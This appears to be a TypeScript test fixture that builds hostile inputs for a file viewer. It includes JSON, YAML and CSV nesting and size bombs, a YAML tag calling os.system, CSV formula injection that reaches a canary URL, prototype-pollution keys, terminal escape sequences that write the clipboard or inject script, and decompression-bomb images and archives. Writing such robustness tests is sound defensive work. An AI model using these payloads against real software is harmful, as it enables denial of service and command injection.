import { crc32, deflateSync, gzipSync } from 'node:zlib';
import type { Attack } from './attack.ts';

const MiB = 1024 * 1024;

/** Data that is small to send and large to show. */
export const DATA_ATTACKS: readonly Attack[] = [
  {
    what: 'JSON: deep',
    file: 'attack.json',
    content: () => `${'['.repeat(2_000_000)}${']'.repeat(2_000_000)}`,
  },
  {
    what: 'JSON: deep objects',
    isLong: true,
    file: 'attack.json',
    content: () => `${'{"a":'.repeat(500_000)}1${'}'.repeat(500_000)}`,
  },
  { what: 'JSON: long', isLong: true, file: 'attack.json', content: () => `[${'1,'.repeat(7 * MiB)}1]` },
  {
    what: 'JSON: a long text',
    isLong: true,
    file: 'attack.json',
    content: () => `"${'x'.repeat(15 * MiB)}"`,
  },
  {
    what: 'JSON: names of objects',
    file: 'attack.json',
    content: () =>
      '{"__proto__": {"stolen": 1}, "constructor": {"prototype": {"stolen": 1}}, "toString": 1, "$$typeof": "x", "type": "script"}',
  },
  {
    what: 'JSON: names without end',
    isLong: true,
    file: 'attack.json',
    content: () => `{${Array.from({ length: 500_000 }, (_, i) => `"k${i}":0`).join(',')}}`,
  },
  {
    what: 'YAML: aliases of aliases',
    file: 'attack.yaml',
    content: () =>
      `a: &a [x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 20 }, (_, i) => `b${i}: &b${i} [${Array.from({ length: 9 }, () => (i === 0 ? '*a' : `*b${i - 1}`)).join(', ')}]`).join('\n')}\n`,
  },
  {
    what: 'YAML: deep',
    isLong: true,
    file: 'attack.yaml',
    content: () => `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
  },
  {
    what: 'YAML: deep lines',
    isLong: true,
    file: 'attack.yaml',
    content: () => Array.from({ length: 3000 }, (_, i) => `${' '.repeat(i)}a:`).join('\n'),
  },
  {
    what: 'YAML: long',
    isLong: true,
    file: 'attack.yaml',
    content: () => '- {a: 1, b: [x, y], c: "text"}\n'.repeat(500_000),
  },
  { what: 'YAML: itself', isLong: true, file: 'attack.yaml', content: () => 'a: &a {b: *a}\n<<: *a\n' },
  {
    what: 'YAML: tags',
    file: 'attack.yaml',
    content: () =>
      'a: !!js/function "function () { localStorage.stolen = 1 }"\nb: !!python/object/apply:os.system ["x"]\nc: !!binary aGk=\n',
  },
  {
    what: 'YAML: documents without end',
    isLong: true,
    file: 'attack.yaml',
    content: () => '---\na\n'.repeat(200_000),
  },
  {
    what: 'CSV: formulas',
    file: 'attack.csv',
    content: ({ canary }) =>
      `a,b\n=cmd|' /C calc'!A0,"=HYPERLINK(""${canary.url}"",""x"")"\n=WEBSERVICE("${canary.url}/csv"),@SUM(1)\n`,
  },
  { what: 'CSV: ten million columns', file: 'attack.csv', content: () => `${','.repeat(10_000_000)}\n1,2\n` },
  {
    what: 'CSV: three million rows',
    isLong: true,
    file: 'attack.csv',
    content: () => 'x,y\n'.repeat(3_000_000),
  },
  {
    what: 'CSV: a quote that does not end',
    isLong: true,
    file: 'attack.csv',
    content: () => `a,b\n"${'x,\n'.repeat(3_000_000)}`,
  },
  { what: 'CSV: one cell', isLong: true, file: 'attack.csv', content: () => `a\n${'9'.repeat(20 * MiB)}\n` },
  {
    what: 'CSV: a long number that is none',
    file: 'attack.csv',
    content: () => `x,y\n1,2\n3,${'1'.repeat(60_000)}x\n`,
  },
  {
    what: 'CSV: names of objects',
    isLong: true,
    file: 'attack.csv',
    content: () => '__proto__,constructor,toString,__proto__\n1,2,3,4\n2,3,4,5\n3,4,5,6\n',
  },
  {
    what: 'a log: titles, links and other orders',
    file: 'attack.log',
    content: ({ canary }) =>
      `\u001b]0;stolen\u0007\u001b]8;;javascript:localStorage.stolen=1\u0007link\u001b]8;;\u0007\u001b]52;c;c3RvbGVu\u0007\u001b[2J\u001b[?1049h\u001b[6n\u001bP$q"p\u001b\\\u001b]1337;File=inline=1:${canary.url}\u0007\u001b[38;2;1;2;3mtext\u001b[31" onmouseover="localStorage.stolen=1m`,
  },
  {
    what: 'a log: colours without end',
    isLong: true,
    file: 'attack.log',
    content: () => '\u001b[31ma\u001b[32mb'.repeat(180_000),
  },
  { what: 'a log: one line', isLong: true, file: 'attack.log', content: () => 'x'.repeat(2 * MiB - 1) },
  {
    what: 'a log: one line that is written over',
    isLong: true,
    file: 'attack.log',
    content: () => `${'x'.repeat(MiB)}\r${'y'.repeat(MiB - 5)}`,
  },
  {
    what: 'a log: orders that do not end',
    isLong: true,
    file: 'attack.log',
    content: () => '\u001b]'.repeat(MiB),
  },
  { what: 'a text: one line', file: 'attack.txt', content: () => 'x '.repeat(MiB) },
  { what: 'a text: empty lines', isLong: true, file: 'attack.txt', content: () => '\n'.repeat(2 * MiB) },
  {
    what: 'a text: marks upon marks',
    isLong: true,
    file: 'attack.txt',
    content: () => `a${'\u0301'.repeat(MiB)}`,
  },
  {
    what: 'a text: from right to left and back',
    isLong: true,
    file: 'attack.txt',
    content: () => '\u202Ea\u2067b\u202Dc\u05D0'.repeat(150_000),
  },
  { what: 'source code: quotes and brackets', file: 'attack.js', content: () => '/*"`${'.repeat(43_000) },
  {
    what: 'source code: comments',
    isLong: true,
    file: 'attack.cpp',
    content: () => '((((a<b,'.repeat(32_000),
  },
  { what: 'source code: tags', isLong: true, file: 'attack.xml', content: () => '<a b="'.repeat(43_000) },
  {
    what: 'a picture of 3.6 gigapixels',
    isLong: true,
    file: 'attack.png',
    content: () => png(60_000, 60_000),
  },
  {
    what: 'a picture of 900 megapixels',
    isLong: true,
    file: 'attack.png',
    content: () => png(30_000, 30_000),
  },
  {
    what: 'a picture that claims the most',
    file: 'attack.png',
    content: () => png(2 ** 31 - 1, 2 ** 31 - 1, 10),
  },
  { what: 'a film of pictures without end', isLong: true, file: 'attack.gif', content: gif },
  {
    what: 'packed a thousand times',
    isLong: true,
    file: 'attack.gz',
    content: () => new Uint8Array(gzipSync(Buffer.alloc(64 * MiB))),
  },
];

/** A grey picture as large as it says; `rows` of it are really there. */
function png(width: number, height: number, rows = height): Uint8Array<ArrayBuffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  // One bit for each point.
  header.set([1, 0], 8);
  const length = Math.min(Math.ceil(width / 8) + 1, 10_000) * rows;
  return new Uint8Array(
    Buffer.concat([
      Buffer.from('89504e470d0a1a0a', 'hex'),
      chunk('IHDR', header),
      chunk('IDAT', deflateSync(Buffer.alloc(Math.min(length, 500 * MiB)))),
      chunk('IEND', Buffer.alloc(0)),
    ]),
  );
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const edges = Buffer.alloc(8);
  edges.writeUInt32BE(data.length, 0);
  edges.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([edges.subarray(0, 4), body, edges.subarray(4)]);
}

/** 65535 × 65535 points, shown again and again. */
function gif(): Uint8Array<ArrayBuffer> {
  const frame = '2cffff0000ffffffff00020244010000'.slice(0, 28);
  return new Uint8Array(
    Buffer.from(
      `474946383961ffffffff800000000000ffffff${`21f9040000000000${frame}`.repeat(50_000)}3b`,
      'hex',
    ),
  );
}
